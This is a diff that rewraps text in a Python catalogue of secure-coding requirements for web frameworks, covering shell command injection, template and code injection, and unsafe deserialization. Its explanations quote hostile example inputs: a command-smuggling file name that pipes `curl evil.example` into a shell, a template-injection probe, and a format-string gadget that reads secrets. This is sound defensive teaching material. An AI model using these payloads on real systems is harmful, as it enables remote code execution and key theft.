@@ -7,14 +7,18 @@ REQUIREMENTS: tuple[Requirement, ...] = (
         id="input.command",
         practice="input",
         title="No request data in a shell or a program name",
-        asks="Commands run as a list of arguments without a shell, with a fixed program and with data that cannot be taken for an option.",
+        asks=(
+            "Commands run as a list of arguments without a shell, with a fixed program and with data that "
+            "cannot be taken for an option."
+        ),
         why="""\
-A shell reads `;`, `|`, `$()` and line ends as commands. A file name of `x; curl evil.example | sh` then runs the \
-attacker's program as your server, with your database and your keys. Even without a shell, data that starts with `-` can \
-switch on a dangerous option.""",
+A shell reads `;`, `|`, `$()` and line ends as commands. A file name of `x; curl evil.example | sh` then \
+runs the attacker's program as your server, with your database and your keys. Even without a shell, data \
+that starts with `-` can switch on a dangerous option.""",
         how=HowTo(
             flask="""\
-Pass a list, keep `shell=False` (the default), end the options with `--`, and set a time limit. Better still: use a library.
+Pass a list, keep `shell=False` (the default), end the options with `--`, and set a time limit. Better \
+still: use a library.
 
 ```python
 import subprocess
@@ -28,7 +32,8 @@ def thumbnail(source, target):
     )
 ```""",
             django="""\
-Pass a list, keep `shell=False` (the default) and set a time limit; run slow commands in a task queue, not in the view.
+Pass a list, keep `shell=False` (the default) and set a time limit; run slow commands in a task queue, not \
+in the view.
 
 ```python
 import subprocess
@@ -64,11 +69,15 @@ async def ping(host: IPv4Address):
         id="input.code",
         practice="input",
         title="No request data in code or template source",
-        asks="Request data never becomes code, an imported name, the source of a template, or a format string over objects.",
+        asks=(
+            "Request data never becomes code, an imported name, the source of a template, or a format "
+            "string over objects."
+        ),
         why="""\
-`eval` and a template engine do what the text says. A visitor who can write `{{ 7*7 }}` into a template's source can \
-usually walk from there to the operating system, and `"{user.__init__.__globals__}".format(user=...)` reads your \
-settings and keys. There is no safe way to filter such text.""",
+`eval` and a template engine do what the text says. A visitor who can write `{{ 7*7 }}` into a template's \
+source can usually walk from there to the operating system, and \
+`"{user.__init__.__globals__}".format(user=...)` reads your settings and keys. There is no safe way to \
+filter such text.""",
         how=HowTo(
             flask="""\
 Give data to a template as a variable; never build the source from it. Choose functions from a mapping.
@@ -84,9 +93,11 @@ def greet(name):
 def export(kind):
     return FORMATS[kind]()  # not eval(f"export_{kind}()")
 ```
-If users must write templates, use `jinja2.sandbox.ImmutableSandboxedEnvironment` in a separate process.""",
+If users must write templates, use `jinja2.sandbox.ImmutableSandboxedEnvironment` in a separate \
+process.""",
             django="""\
-Render files with a context, read literals with `ast.literal_eval` or `json.loads`, and choose classes from a mapping.
+Render files with a context, read literals with `ast.literal_eval` or `json.loads`, and choose classes \
+from a mapping.
 
 ```python
 from django.shortcuts import render
@@ -97,7 +108,8 @@ def report(request, kind):
     chosen = REPORTS.get(kind)  # not import_string(f"shop.reports.{kind}")
     return render(request, "report.html", {"report": chosen and chosen()})
 ```
-Never call `Template(request.POST["body"])`; for user-written texts replace fixed placeholders with `string.Template`.""",
+Never call `Template(request.POST["body"])`; for user-written texts replace fixed placeholders with \
+`string.Template`.""",
             fastapi="""\
 Let an `Enum` or `Literal` choose what runs, and give templates data only.
 
@@ -129,10 +141,14 @@ def calculate(operation: Operation, numbers: list[float]):
         id="input.deserialize",
         practice="input",
         title="No unsafe deserialization of request data",
-        asks="Data from outside is read as JSON or another plain format, never with pickle, marshal, yaml.load or their like.",
+        asks=(
+            "Data from outside is read as JSON or another plain format, never with pickle, marshal, "
+            "yaml.load or their like."
+        ),
         why="""\
-A pickle is a program: loading it can call any function. Whoever can hand your app a pickled cookie, upload, cache entry \
-or model file runs commands on your server. YAML's full loader, jsonpickle, dill, shelve and `torch.load` share the fault.""",
+A pickle is a program: loading it can call any function. Whoever can hand your app a pickled cookie, \
+upload, cache entry or model file runs commands on your server. YAML's full loader, jsonpickle, dill, \
+shelve and `torch.load` share the fault.""",
         how=HowTo(
             flask="""\
 Read JSON, and YAML only with the safe loader.
@@ -147,7 +163,8 @@ def load_order():
 def load_settings():
     return yaml.safe_load(request.files["settings"].stream)
 ```
-Data that your app hands out and takes back is signed with `itsdangerous.URLSafeTimedSerializer`, which holds JSON.""",
+Data that your app hands out and takes back is signed with `itsdangerous.URLSafeTimedSerializer`, which \
+holds JSON.""",
             django="""\
 Keep the JSON serializers (the default), also for sessions, caches and signed values.
 
